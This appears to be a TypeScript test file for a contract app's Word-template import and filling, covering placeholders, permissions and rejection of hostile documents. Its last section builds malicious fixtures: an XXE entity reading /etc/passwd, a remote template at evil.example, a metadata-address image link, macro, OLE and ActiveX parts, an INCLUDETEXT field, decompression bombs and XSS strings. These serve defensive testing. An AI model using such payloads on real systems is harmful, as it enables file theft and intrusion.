/** Word files of templates: imported as text, kept and filled; and files that would harm us or their readers. */
import { unzipSync } from "fflate";
import { describe, expect, test } from "vitest";
import { contractDocuments } from "#contract/contract-documents/contract-document.ts";
import { contractTemplates } from "#contract/contract-documents/template.ts";
import { wordTemplates } from "#contract/contract-documents/word.ts";
import { openStore } from "#server/lib/files/storage/open-store.ts";
import { startApp, testConfig } from "#test/app.ts";
import { setUpDeals } from "#test/deals.ts";
import { buildPartner, buildPerson, buildStaff, inAgency } from "#test/factories.ts";
import { uploading } from "#test/uploads.ts";
import { wordParagraph as p, wordFile, wordRow } from "#test/word.ts";

const started = await startApp();
const { ask, app } = started;
const { whole } = uploading(started);

async function setUp() {
  const deals = await setUpDeals({ ask });
  const { owner } = deals;
  const upload = async (bytes: Buffer, name = "Agreement.docx") => (await whole(owner, { name, bytes })).id;
  const convert = async (bytes: Buffer, name?: string) =>
    ask(wordTemplates.convert, owner.token, { body: { mediaId: await upload(bytes, name) } });
  const { data: template } = await ask(contractTemplates.create, owner.token, {
    body: { name: "Performance agreement", body: "<p>{{contract.title}}</p>", defaultFor: ["OTHER"] },
  });
  const set = async (bytes: Buffer) =>
    ask(wordTemplates.set, owner.token, { params: { id: template.id }, body: { mediaId: await upload(bytes) } });
  const download = async (url: string, method: "GET" | "POST", token = owner.token): Promise<Buffer> => {
    const reply = await app.inject({ url, method, headers: { authorization: `Bearer ${token}` } });
    return reply.rawPayload;
  };
  return { ...deals, upload, convert, template, set, download };
}
const part = (file: Buffer, name = "word/document.xml"): string =>
  Buffer.from(unzipSync(new Uint8Array(file))[name] ?? new Uint8Array()).toString();
/** The texts of a filled file, a line for each paragraph. */
const said = (file: Buffer): string[] =>
  part(file)
    .split("</w:p>")
    .map((text) => text.replaceAll(/<w:br\/>/g, "\n").replaceAll(/<[^>]*>/g, ""))
    .filter((text) => text !== "");

describe("a Word file that is imported", () => {
  test("an imported Word file becomes headings, lists, tables and fields, and losses are listed", async () => {
    const { convert } = await setUp();
    const split = `<w:p><w:r><w:t>Fee: {{contract.</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>value}} now</w:t></w:r></w:p>`;
    const { status, data } = await convert(
      wordFile({
        body: [
          p("Parties", "Heading1"),
          p("Between {client.name} and «Agency.Name», signed by {{signatory}}."),
          split,
          `<w:tbl>${wordRow(["{#instalments}{instalment.name}", "{instalment.amount}{/instalments}"])}</w:tbl>`,
          p("A quote", "Quote2"),
          `<w:p><w:ins w:id="1"><w:r><w:t>Added</w:t></w:r></w:ins><w:r><w:br w:type="page"/></w:r></w:p>`,
        ].join(""),
        more: {
          "word/styles.xml": `<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/></w:style><w:style w:type="paragraph" w:styleId="Quote2"><w:name w:val="Fancy quote"/></w:style></w:styles>`,
          "word/header1.xml": `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${p("Confidential")}</w:hdr>`,
        },
        relations: [{ type: "styles", target: "styles.xml" }],
      }),
    );
    expect(status).toBe(200);
    expect(data.name).toBe("Agreement");
    expect(data.body).toContain("<h2>Parties</h2>");
    expect(data.body).toContain("<p>Between {{client.name}} and {{agency.name}}, signed by [signatory].</p>");
    expect(data.body).toContain("<p>Fee: {{contract.value}}<strong> now</strong></p>");
    expect(data.body).toMatch(
      /<td><p>{{#each instalments}}{{instalment.name}}<\/p><\/td><td><p>{{instalment.amount}}{{\/each}}<\/p><\/td>/,
    );
    expect(data.fields).toEqual([
      "client.name",
      "agency.name",
      "contract.value",
      "instalment.name",
      "instalment.amount",
    ]);
    expect(data.unknown).toEqual(["signatory"]);
    expect(data.lost).toEqual(
      expect.arrayContaining([
        { kind: "headers", count: 1, names: [] },
        { kind: "trackedChanges", count: 1, names: [] },
        { kind: "pageBreaks", count: 1, names: [] },
        { kind: "styles", count: 1, names: ["Fancy quote"] },
      ]),
    );
  });

  test("an imported Word file is saved as a template as it came", async () => {
    const { owner, upload } = await setUp();
    const mediaId = await upload(wordFile({ body: p("Between {{client.name}} and us") }));
    const { data } = await ask(wordTemplates.convert, owner.token, { body: { mediaId } });
    const body = { name: data.name, body: data.body, defaultFor: [] };
    expect((await ask(contractTemplates.create, owner.token, { body })).status).toBe(200);
  });

  test("a Word file is imported only by those who may change the settings", async () => {
    const { agency, upload } = await setUp();
    const agent = await buildStaff(agency, { levels: { ORGANIZATION: ["VIEW_ONLY"] } });
    const mediaId = await upload(wordFile({ body: p("Text") }));
    expect((await ask(wordTemplates.convert, agent.token, { body: { mediaId } })).status).toBe(403);
  });
});

describe("the Word file of a template", () => {
  test("a template's Word file is filled with the values of a contract, its lists and conditions", async () => {
    const { agency, owner, add, set, download, template } = await setUp();
    const partnerId = await buildPartner(agency, { displayName: "Northlight & Sons <Ltd>" });
    const id = await add("contract", { title: "Night {{agency.lead}}", value: 100_000, currency: "AUD", partnerId });
    const { status, data } = await set(
      wordFile({
        body: [
          p("{{contract.title}} with {{client.name}}"),
          p("{{#if contract.value}}Fee {{contract.value}}{{/if}}{{#if event.title}}at {{event.title}}{{/if}}"),
          p("{{#each instalments}}{{instalment.name}}{{/each}}{{#if talents}}talents{{/if}}."),
          p("Until {{contract.termEnd}}"),
        ].join(""),
      }),
    );
    expect([status, data.word?.filename]).toEqual([200, "Agreement.docx"]);
    expect((await ask(contractDocuments.get, owner.token, { params: { id } })).data.hasWord).toBe(true);
    const file = await download(`/client/v1/contracts/${id}/document/word`, "POST");
    expect(said(file)).toEqual([
      "Night {{agency.lead}} with Northlight &amp; Sons &lt;Ltd&gt;",
      "Fee 1,000.00 AUD",
      expect.stringMatching(/\.$/),
      "Until [Last day of the term]",
    ]);
    expect(part(await download(`/client/v1/settings/contract-templates/${template.id}/word`, "GET"))).toContain(
      "{{#if contract.value}}",
    );
    await ask(wordTemplates.remove, owner.token, { params: { id: template.id } });
    expect((await ask(contractDocuments.get, owner.token, { params: { id } })).data.hasWord).toBe(false);
    expect((await ask(contractDocuments.word, owner.token, { params: { id } })).error?.code).toBe("wordMissing");
  });

  test("a template's Word file repeats a row of its table, and hides what its reader may not see", async () => {
    const { agency, add, set, download } = await setUp();
    const person = await buildPerson(agency, { displayName: "Imogen" });
    await inAgency(
      agency,
      `insert into legal_entity (id, agency_id, person_id, entity_kind, name, abn)
        values (gen_random_uuid(), $1, $2, 'Company', 'Imogen Hart Pty', '51824753556')`,
      [agency, person],
    );
    const id = await add("contract", { personIds: [person] });
    await set(
      wordFile({
        body: `<w:tbl>${wordRow(["{{#each talents}}{{talent.name}}", "{{talent.legalName}}{{/each}}"])}</w:tbl>`,
      }),
    );
    const url = `/client/v1/contracts/${id}/document/word`;
    expect(said(await download(url, "POST"))).toEqual(["Imogen", "Imogen Hart Pty"]);
    const reader = await buildStaff(agency, { levels: { CONTRACT: ["VIEW_ALL"] } });
    expect(said(await download(url, "POST", reader.token))).toEqual(["[Name]", "[Legal name]"]);
  });

  test.each([
    ["{{client.password}}", /There is no field "client.password"/],
    ["{{constructor.constructor}}", /There is no field/],
    ["{{__proto__}}", /There is no field/],
    ["{{#each accounts}}{{email}}{{/each}}", /"accounts" can't be repeated/],
    ["{{talent.legalName}}", /stands only between/],
    ["{{#if client.name}}", /has no end/],
  ])("a template's Word file with %s is refused, and says what is wrong", async (text, message) => {
    const { set } = await setUp();
    const { status, error } = await set(wordFile({ body: p(text) }));
    expect([status, error?.details?.[0]?.message]).toEqual([400, expect.stringMatching(message)]);
  });
});

describe("a hostile Word file is refused within the limits", () => {
  const rels = (xml: string) => ({
    "word/_rels/settings.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${xml}</Relationships>`,
  });
  const MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml";
  const REMOTE =
    '<Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>';
  const text = p("Text");
  const hostile: [string, () => Buffer, RegExp][] = [
    ["whose type is that of macros", () => wordFile({ body: text, contentType: MACRO }), /macros/],
    [
      "with an embedded object",
      () => wordFile({ body: text, more: { "word/embeddings/oleObject1.bin": "x" } }),
      /other files in them/,
    ],
    [
      "with ActiveX",
      () => wordFile({ body: text, more: { "word/activeX/activeX1.xml": "<a/>" } }),
      /other files in them/,
    ],
    ["with a remote template", () => wordFile({ body: text, more: rels(REMOTE) }), /template attached/],
    [
      "with a picture from elsewhere",
      () => wordFile({ body: text, relations: [{ type: "image", target: "http://169.254.169.254/", external: true }] }),
      /loads something from elsewhere/,
    ],
    [
      "with a field that reads a file",
      () =>
        wordFile({
          body: `<w:p><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "c:\\\\a" </w:instrText></w:r></w:p>`,
        }),
      /INCLUDETEXT/,
    ],
    [
      "with an entity that reads a file",
      () => wordFile({ body: p("&x;"), prologue: '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>' }),
      /document type/,
    ],
    ["of ten megabytes of text", () => wordFile({ body: p("Agreed and signed. ".repeat(550_000)) }), /too large/],
    [
      "that unpacks to a hundred megabytes",
      () => wordFile({ body: text, more: { "word/media/a.png": new Uint8Array(100_000_000) } }),
      /too large|damaged/,
    ],
    [
      "nested a thousand times",
      () => wordFile({ body: `${"<w:sdt>".repeat(1000)}${"</w:sdt>".repeat(1000)}` }),
      /nested/,
    ],
    ["whose document is no XML", () => wordFile({ body: "<w:p>" }), /damaged/],
    ["that is none", () => wordFile({ body: text, contentType: "text/plain" }), /not a Word document/],
  ];
  test.each(hostile)(
    "a hostile Word file %s is refused within the limits",
    async (_, make, message) => {
      const { upload, owner, template } = await setUp();
      const file = make();
      for (const send of ["convert", "set"] as const) {
        const started = await upload(Buffer.from(wordFile({ body: text })));
        // The bytes as if they had come through the upload, which refuses some of these itself.
        await replaceUpload(owner.agencyId, started, file);
        const before = Date.now();
        const reply =
          send === "set"
            ? await ask(wordTemplates.set, owner.token, { params: { id: template.id }, body: { mediaId: started } })
            : await ask(wordTemplates.convert, owner.token, { body: { mediaId: started } });
        expect([reply.status, reply.error?.details?.[0]?.message], send).toEqual([400, expect.stringMatching(message)]);
        expect(Date.now() - before).toBeLessThan(20_000);
      }
    },
    60_000,
  );

  test("scripts, styles and links of a harmless Word file do not survive the import", async () => {
    const { convert } = await setUp();
    const link = '<w:hyperlink r:id="rId1"><w:r><w:t>link</w:t></w:r></w:hyperlink>';
    const { data } = await convert(
      wordFile({
        body: `${p("&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;")}<w:p>${link}</w:p>`,
        relations: [{ type: "hyperlink", target: "https://example.com/", external: true }],
      }),
    );
    expect(data.body).toContain("&lt;script&gt;");
    expect(data.body).not.toMatch(/<script|<img/);
    const { error } = await convert(
      wordFile({ body: text, relations: [{ type: "hyperlink", target: "javascript:alert(1)", external: true }] }),
    );
    expect(error?.details?.[0]?.message).toMatch(/loads something from elsewhere/);
  });
});

const store = openStore(testConfig());
async function replaceUpload(agency: string, mediaId: string, bytes: Buffer): Promise<void> {
  const [row] = await inAgency(agency, "update media set size = $2 where id = $1 returning file_key", [
    mediaId,
    bytes.length,
  ]);
  await store.put(String(row?.file_key), bytes);
}
